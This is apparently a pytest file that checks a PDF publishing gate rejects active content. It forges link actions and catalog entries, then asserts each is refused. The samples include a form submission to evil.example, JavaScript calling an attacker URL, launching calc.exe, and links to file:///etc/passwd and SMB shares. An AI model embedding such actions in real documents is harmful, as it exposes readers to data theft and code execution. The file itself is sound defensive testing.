"""safety78: a catalogue of what a PDF served on the branch may do besides show its words, each refused by the served
check (pdfactions.pdf_action, publish.pdf-active) in a copy of the generator's own redline: an action of each kind a
viewer runs on a link (another file opened, data imported, a form sent or reset, media played, words hidden, layers
switched, a 3D view, an embedded document), a link to a file, a share or a script, and what a document carries (a form,
an XFA form, rich media, an embedded file). The redline itself passes."""
from __future__ import annotations

import io

import pikepdf
import pytest

from integration.test_gate_catalogue76 import _pdf_redline
from policysite import pdfactions, servedpages
from policysite.messages import said_in


def _linked(data: bytes, action: dict) -> bytes:
    """`data` with a link annotation over its first page whose action is `action`."""
    with pikepdf.open(io.BytesIO(data)) as pdf:
        page = pdf.pages[0]
        link = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link,
                                                    Rect=[50, 50, 200, 80], A=pikepdf.Dictionary(action)))
        page.obj.Annots = pikepdf.Array([*page.obj.get("/Annots", pikepdf.Array()), link])
        out = io.BytesIO()
        pdf.save(out)
        return out.getvalue()


def _catalogued(data: bytes, key: str, value: object) -> bytes:
    """`data` with `key` set in its document catalog."""
    with pikepdf.open(io.BytesIO(data)) as pdf:
        pdf.Root[key] = value
        out = io.BytesIO()
        pdf.save(out)
        return out.getvalue()


_N = pikepdf.Name
ACTIONS = [
    {"/S": _N.GoToR, "/F": pikepdf.String("other.pdf"), "/D": pikepdf.Array([0, _N.Fit])},
    {"/S": _N.GoToE, "/D": pikepdf.Array([0, _N.Fit])},
    {"/S": _N.Launch, "/F": pikepdf.String("calc.exe")},
    {"/S": _N.ImportData, "/F": pikepdf.String("data.fdf")},
    {"/S": _N.SubmitForm, "/F": pikepdf.String("https://evil.example/collect")},
    {"/S": _N.ResetForm},
    {"/S": _N.Hide, "/T": pikepdf.String("clause")},
    {"/S": _N.Rendition},
    {"/S": _N.Sound},
    {"/S": _N.Movie},
    {"/S": _N.SetOCGState, "/State": pikepdf.Array([_N.OFF])},
    {"/S": _N.Trans},
    {"/S": _N.GoTo3DView},
    {"/S": _N.Thread, "/F": pikepdf.String("other.pdf")},
    {"/S": _N.JavaScript, "/JS": pikepdf.String("app.launchURL('https://evil.example/')")},
    {"/S": _N.URI, "/URI": pikepdf.String("javascript:app.alert(1)")},
    {"/S": _N.URI, "/URI": pikepdf.String("file:///etc/passwd")},
    {"/S": _N.URI, "/URI": pikepdf.String("smb://evil.example/share")},
    {"/S": _N.URI, "/URI": pikepdf.String("\\\\evil.example\\share\\x.pdf")},
    {"/S": _N.URI, "/URI": pikepdf.String("//evil.example/x")},
    {"/S": _N.URI, "/URI": pikepdf.String("data:text/html,<script>x</script>")},
]


@pytest.fixture(scope="module")
def own() -> bytes:
    with pytest.MonkeyPatch.context() as patch:
        return _pdf_redline(patch)


def test_the_redline_itself_does_nothing_else(own):
    assert pdfactions.pdf_action(own) == ""


@pytest.mark.parametrize("action", ACTIONS, ids=lambda action: f"{action['/S']}-{str(action.get('/URI', ''))[:12]}")
def test_a_link_s_action_besides_going_to_a_page_is_refused(own, action):
    forged = _linked(own, action)
    found = pdfactions.pdf_action(forged)
    assert found, action
    refusal = servedpages._what_said("publish.pdf-active", pdfactions.pdf_action)(forged, [])
    assert refusal is not None and said_in(refusal, "fr") != said_in(refusal, "en")


@pytest.mark.parametrize(("key", "value"), [
    ("/OpenAction", pikepdf.Dictionary({"/S": _N.JavaScript, "/JS": pikepdf.String("1")})),
    ("/AcroForm", pikepdf.Dictionary({"/Fields": pikepdf.Array()})),
    ("/AA", pikepdf.Dictionary()),
    ("/URI", pikepdf.Dictionary({"/Base": pikepdf.String("https://evil.example/")})),
    ("/Names", pikepdf.Dictionary({"/EmbeddedFiles": pikepdf.Dictionary({"/Names": pikepdf.Array()})})),
    ("/Names", pikepdf.Dictionary({"/JavaScript": pikepdf.Dictionary({"/Names": pikepdf.Array()})})),
])
def test_what_a_document_carries_besides_its_pages_is_refused(own, key, value):
    assert pdfactions.pdf_action(_catalogued(own, key, value)), key


def test_a_link_to_an_address_of_the_web_passes(own):
    assert pdfactions.pdf_action(_linked(own, {"/S": _N.URI, "/URI": pikepdf.String("https://www.cnil.fr/")})) == ""
